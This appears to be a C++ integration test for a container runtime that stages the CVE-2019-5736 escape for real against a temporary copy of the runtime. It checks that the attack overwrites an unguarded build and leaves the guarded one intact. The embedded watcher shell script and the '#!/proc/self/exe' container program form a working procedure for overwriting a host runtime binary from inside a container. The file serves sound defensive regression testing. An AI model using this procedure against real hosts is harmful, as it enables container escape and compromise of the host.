// CVE-2019-5736 class, tried for real: a container overwrites the host's
// runtime binary through /proc/PID/exe. The attack runs against a COPY of
// the runtime in the test's temp dir (never the build's binary), twice:
// against sangja-unguarded (the same CLI with the exec guard switched off at
// link time, tests/unguarded/), where it must succeed, or the attack set-up
// is broken and the test fails; then against the runtime under test, whose
// copy must stay byte for byte as it was.
//
// Container X (the attacker) runs a watcher shell in its own pid namespace;
// container Y joins that pid namespace, and its program is the script
// `#!/proc/self/exe --log=/shared/fifo`, with a glibc in its image (as any
// Debian-based image has) so that the runtime can start inside it. /shared
// is one host dir bound into both. In order:
//  1. Y is created: its init waits for `start`, still a clone of the runtime.
//     The watcher tries to open /proc/<Y init>/exe (path 1 of runtime/process/exec_guard.h).
//  2. Y is started: its program's exec runs /proc/self/exe again, inside the
//     container. An unguarded runtime starts, opens its --log fifo and blocks
//     there; the watcher opens its /proc/PID/exe and then releases the fifo
//     (path 2).
//  3. Once no process runs the binary any more, the watcher writes through
//     every fd it got, reopening it via /proc/self/fd/N.
#include <sys/stat.h>
#include <unistd.h>

#include <climits>
#include <filesystem>
#include <iostream>
#include <memory>
#include <string>
#include <vector>

#include "tests/integration/harness.h"

namespace sangja::it {
namespace {

using nlohmann::json;
namespace fs = std::filesystem;

// X's program. Reports go to /shared/report; the test drives the phases
// through files in /shared (go1, go2, stop).
const char kWatcher[] = R"(
say() { echo "$*" >> /shared/report; }
waitfor() { while [ ! -e "/shared/$1" ]; do usleep 10000; done; }
waitfor go1
for d in /proc/[0-9]*; do
  p=${d#/proc/}
  [ "$p" = $$ ] && continue
  [ -e "$d" ] || continue
  l=$(readlink "$d/exe" 2>/dev/null) || l='(exe unreadable)'
  case "$l" in
  *sangja-victim*)
    if (exec 9<"$d/exe") 2>/dev/null; then
      exec 3<"$d/exe"
      say "setup: pid $p exe $l: opened"
      continue
    fi ;;
  esac
  say "setup: pid $p exe $l: not opened"
done
touch /shared/phase1-done
waitfor go2
found=
for d in /proc/[0-9]*; do
  p=${d#/proc/}
  [ "$p" = $$ ] && continue
  l=$(readlink "$d/exe" 2>/dev/null) || continue
  case "$l" in
  *sangja-victim*)
    if (exec 9<"$d/exe") 2>/dev/null; then
      exec 5<"$d/exe"
      say "re-exec: pid $p exe $l: opened"
      found=1
      break
    fi ;;
  esac
done
[ -n "$found" ] || say "re-exec: no process runs the runtime"
exec 4<>/shared/fifo
touch /shared/phase2-done
waitfor stop
for fd in 3 5; do
  [ -e /proc/$$/fd/$fd ] || continue
  n=0
  until (echo "PWNED-fd$fd" >> /proc/$$/fd/$fd) 2>/dev/null; do
    n=$((n+1))
    [ $n -ge 250 ] && break
    usleep 20000
  done
  if [ $n -ge 250 ]; then say "write through fd $fd: failed"; else say "write through fd $fd: done"; fi
done
say end
)";

struct Outcome {
  bool ranThrough = false;  // both containers were made and the phases passed
  bool intact = false;
  std::string report;     // what the watcher saw and did
  std::string yErr;       // Y's stderr (its create's, which the init inherits)
  std::string victimEnd;  // the copy's last bytes
  bool reran = false;     // Y's init ran the runtime again (its argv, seen from the host)
};

int failuresSoFar() {
  const ::testing::TestResult* result =
      ::testing::UnitTest::GetInstance()->current_test_info()->result();
  int n = 0;
  for (int i = 0; i < result->total_part_count(); ++i) n += result->GetTestPartResult(i).failed();
  return n;
}

class EscapeExeTest : public ::testing::Test {
 protected:
  static std::unique_ptr<Process> spawnWith(const std::string& runtime, const Bundle& b,
                                            std::vector<std::string> args) {
    std::vector<std::string> argv{runtime, "--root", b.stateRoot()};
    argv.insert(argv.end(), args.begin(), args.end());
    return std::make_unique<Process>(argv, b.tmp(),
                                     std::vector<std::string>{"SANGJA_IT_TAG=" + b.tag()});
  }

  static pid_t readPid(const std::string& path) {
    std::string text = readFile(path);
    return text.empty() ? 0 : static_cast<pid_t>(std::stol(text));
  }

  // The whole attack against a copy of `runtime`.
  static Outcome attack(const std::string& runtime) {
    Outcome out;
    int failuresBefore = failuresSoFar();
    Bundle x, y;
    std::string shared = x.tmp() + "/shared";
    fs::create_directories(shared);
    if (::mkfifo((shared + "/fifo").c_str(), 0666) != 0) ADD_FAILURE() << "mkfifo";
    std::string victim = x.tmp() + "/bin/sangja-victim";
    fs::create_directories(fs::path(victim).parent_path());
    fs::copy_file(runtime, victim);
    fs::permissions(victim, fs::perms(0755));
    auto sameAsOriginal = [&] { return runCommand({"cmp", "-s", runtime, victim}).status == 0; };
    if (!sameAsOriginal()) {
      ADD_FAILURE() << "the copy differs before the attack";
      return out;
    }
    json bindShared = {{"destination", "/shared"},
                       {"type", "bind"},
                       {"source", shared},
                       {"options", {"rbind", "rw"}}};

    // X: the watcher.
    fs::create_directories(x.rootfs() + "/shared");
    x.config["mounts"].push_back(bindShared);
    x.setArgs({"sh", "-c", kWatcher});
    x.write();
    std::string xPidFile = x.tmp() + "/x.pid";
    auto xCreate =
        spawnWith(victim, x, {"create", "--bundle", x.dir(), "--pid-file", xPidFile, x.id()});
    RunResult r = xCreate->wait();
    EXPECT_TRUE(r.ok()) << r;
    r = spawnWith(victim, x, {"start", x.id()})->wait();
    EXPECT_TRUE(r.ok()) << r;
    pid_t xPid = readPid(xPidFile);
    if (xPid <= 0) return out;

    // Y: in X's pid namespace, its program a script for /proc/self/exe.
    fs::create_directories(y.rootfs() + "/shared");
    copyLibraries(victim, y.rootfs());
    writeFile(y.rootfs() + "/evil", "#!/proc/self/exe --log=/shared/fifo\n");
    fs::permissions(y.rootfs() + "/evil", fs::perms(0755));
    y.config["mounts"].push_back(bindShared);
    for (json& ns : y.config["linux"]["namespaces"]) {
      if (ns["type"] == "pid") ns["path"] = "/proc/" + std::to_string(xPid) + "/ns/pid";
    }
    y.setArgs({"/evil"});
    y.write();
    std::string yPidFile = y.tmp() + "/y.pid";
    auto yCreate =
        spawnWith(victim, y, {"create", "--bundle", y.dir(), "--pid-file", yPidFile, y.id()});
    r = yCreate->wait();
    EXPECT_TRUE(r.ok()) << r;
    pid_t yPid = readPid(yPidFile);

    // 1: Y's init waits for start.
    writeFile(shared + "/go1", "");
    EXPECT_TRUE(waitUntil([&] { return pathExists(shared + "/phase1-done"); }))
        << readFile(shared + "/report");
    // 2: Y's program runs; an unguarded runtime blocks on its --log fifo.
    r = spawnWith(victim, y, {"start", y.id()})->wait();
    EXPECT_TRUE(r.ok()) << r;
    std::string yCmdline = "/proc/" + std::to_string(yPid) + "/cmdline";
    // The runtime's own binary, not the exec trampoline that carries the
    // script's argv for the moment it takes to refuse (a busy machine lets
    // this poll see that moment).
    std::string yExe = "/proc/" + std::to_string(yPid) + "/exe";
    waitUntil([&] {
      char exe[PATH_MAX] = {};
      bool trampoline =
          ::readlink(yExe.c_str(), exe, sizeof exe - 1) > 0 && contains(exe, "memfd:");
      out.reran = contains(readFile(yCmdline), "--log=/shared/fifo") && !trampoline;
      return out.reran || !processAlive(yPid);
    });
    writeFile(shared + "/go2", "");
    EXPECT_TRUE(waitUntil([&] { return pathExists(shared + "/phase2-done"); }))
        << readFile(shared + "/report");
    // 3: once nothing runs the binary, the writes.
    EXPECT_TRUE(waitUntil([&] { return !processAlive(yPid); })) << "Y's program did not end";
    writeFile(shared + "/stop", "");
    EXPECT_TRUE(waitUntil([&] { return !processAlive(xPid); }, milliseconds(8000)))
        << "the watcher did not finish";

    out.ranThrough = failuresSoFar() == failuresBefore;
    out.report = readFile(shared + "/report");
    out.yErr = yCreate->err();
    out.intact = sameAsOriginal();
    std::string tail = readFile(victim);
    out.victimEnd = tail.substr(tail.size() > 64 ? tail.size() - 64 : 0);
    // Deleted by the runtime that made them (the Bundles' clean-up uses the
    // runtime under test, which may be another one), but not by the copy.
    for (const Bundle* b : {&y, &x}) {
      r = spawnWith(runtime, *b, {"delete", "--force", b->id()})->wait(kQuickTimeout);
      EXPECT_TRUE(r.ok()) << r;
    }
    return out;
  }
};

TEST_F(EscapeExeTest, ContainerCannotOverwriteTheRuntimeThroughProcExe) {
  // The attack must work where nothing stops it.
  Outcome unguarded = attack(SANGJA_UNGUARDED_BINARY);
  ASSERT_TRUE(unguarded.ranThrough) << "the attack could not be set up";
  ASSERT_FALSE(unguarded.intact)
      << "the attack set-up is broken: it did not overwrite the unguarded runtime, so this test "
         "proves nothing\nwatcher:\n"
      << unguarded.report << "Y's stderr:\n"
      << unguarded.yErr;
  EXPECT_TRUE(unguarded.reran) << "the script did not run the runtime again";
  EXPECT_TRUE(contains(unguarded.report, "setup: pid") &&
              contains(unguarded.report, "sangja-victim: opened"))
      << unguarded.report;
  // Both paths work against it: the init during set-up (fd 3) and the
  // runtime run again by the script (fd 5).
  EXPECT_TRUE(contains(unguarded.victimEnd, "PWNED-fd3\n")) << unguarded.report;
  EXPECT_TRUE(contains(unguarded.victimEnd, "PWNED-fd5\n")) << unguarded.report;

  Outcome guarded = attack(runtimePath());
  ASSERT_TRUE(guarded.ranThrough) << "the attack could not be set up";
  EXPECT_TRUE(guarded.intact) << "the container overwrote the runtime binary!\nwatcher:\n"
                              << guarded.report << "Y's stderr:\n"
                              << guarded.yErr;
  EXPECT_FALSE(contains(guarded.report, ": opened")) << guarded.report;
  EXPECT_TRUE(contains(guarded.report, "end")) << "the watcher did not finish\n" << guarded.report;
  if (!runtimeIsPeer()) {
    // Path 1: the non-dumpable init's exe cannot even be read.
    EXPECT_TRUE(contains(guarded.report, "exe (exe unreadable): not opened")) << guarded.report;
    // Path 2: the script found the trampoline, which refused to run. (runc
    // runs again from its sealed copy.)
    EXPECT_FALSE(guarded.reran) << "the script ran the runtime again inside the container";
    EXPECT_TRUE(contains(guarded.yErr, "exec trampoline: refusing to run")) << guarded.yErr;
  }
  RecordProperty("unguarded_watcher", unguarded.report);
  RecordProperty("guarded_watcher", guarded.report);
  std::cout << "unguarded runtime, the watcher saw:\n"
            << unguarded.report << "guarded runtime, the watcher saw:\n"
            << guarded.report;
}

// A copy of the runtime under test in b's scratch dir, for tests that mount
// over it; b runs `echo ran`.
std::string copyOfRuntimeFor(Bundle& b) {
  std::string copy = b.tmp() + "/bin/sangja";
  fs::create_directories(fs::path(copy).parent_path());
  fs::copy_file(runtimePath(), copy);
  b.setArgs({"echo", "ran"});
  b.write();
  return copy;
}

// Where no executable memfd can be made (vm.memfd_noexec=2, set here in a
// pid namespace of its own, to which the sysctl is scoped: the host's stays
// as it is), create refuses, naming the sysctl, and leaves nothing behind;
// unless the binary is on a read-only mount, where nobody could write it
// and the plain exec is safe.
TEST_F(EscapeExeTest, WithoutAnExecutableMemfdOnlyAReadOnlyBinaryRuns) {
  SKIP_FOR_PEER("the exec trampoline is sangja's");
  if (!pathExists("/proc/sys/vm/memfd_noexec")) {
    GTEST_SKIP() << "this kernel has no vm.memfd_noexec (Linux < 6.3): every memfd may be exec'd";
  }
  Bundle b;
  std::string copy = copyOfRuntimeFor(b);
  auto runUnder = [&](const std::string& setUp) {
    std::string script = "echo 2 > /proc/sys/vm/memfd_noexec || exit 99; " + setUp + "exec \"$@\"";
    return runCommand({"unshare", "--pid", "--fork", "--mount", "sh", "-c", script, "sh", copy,
                       "--root", b.stateRoot(), "run", "--bundle", b.dir(), b.id()});
  };
  RunResult r = runUnder("");
  EXPECT_EQ(r.status, 1) << r;
  EXPECT_TRUE(contains(r.err, "vm.memfd_noexec is 2")) << r;
  EXPECT_EQ(r.out, "") << r;
  EXPECT_TRUE(contains(b.state().err, "does not exist")) << "container left behind";

  r = runUnder("mount --bind \"$1\" \"$1\" && mount -o remount,bind,ro \"$1\" || exit 98; ");
  EXPECT_TRUE(r.ok()) << r;
  EXPECT_EQ(r.out, "ran\n") << r;
}

// A read-only binary still goes through the trampoline when a memfd can be
// made: without it a `#!/proc/self/exe` program re-runs the host's binary,
// dumpable, and the container keeps an fd of it, which a later remount
// read-write would make writable (runtime/process/exec_guard.h). The mount
// is in a namespace of the test's own.
TEST_F(EscapeExeTest, AReadOnlyBinaryStillExecsThroughTheTrampoline) {
  SKIP_FOR_PEER("the exec trampoline is sangja's");
  Bundle b;
  std::string copy = copyOfRuntimeFor(b);
  std::string script =
      "mount --bind \"$1\" \"$1\" && mount -o remount,bind,ro \"$1\" || exit 98; "
      "{ echo x >> \"$1\"; } 2>/dev/null && exit 97; SANGJA_TRACE=1 exec \"$@\"";
  RunResult r =
      runCommand({"unshare", "--mount", "--propagation", "private", "sh", "-c", script, "sh", copy,
                  "--root", b.stateRoot(), "run", "--bundle", b.dir(), b.id()});
  EXPECT_TRUE(r.ok()) << r;
  EXPECT_EQ(r.out, "ran\n") << r;
  EXPECT_TRUE(contains(r.err, "exec trampoline sealed")) << r.err;
}

// The init's exec goes through the trampoline, which a seccomp filter sees
// as an execveat (or an execve of /proc/self/fd/N) before the program's
// execve. A profile that denies or kills execveat must still run the
// program, as it did when the init exec'd it directly.
class ExecTrampolineSeccompTest : public ContainerTest {};

TEST_F(ExecTrampolineSeccompTest, DenyingOrKillingExecveatStillRunsTheProgram) {
  for (const char* action : {"SCMP_ACT_ERRNO", "SCMP_ACT_KILL_PROCESS"}) {
    SCOPED_TRACE(action);
    b.config["linux"]["seccomp"] = {{"defaultAction", "SCMP_ACT_ALLOW"},
                                    {"syscalls", {{{"names", {"execveat"}}, {"action", action}}}}};
    RunResult r = b.sh("echo ran");
    EXPECT_TRUE(r.ok()) << r;
    EXPECT_EQ(r.out, "ran\n") << r;
  }
}

}  // namespace
}  // namespace sangja::it
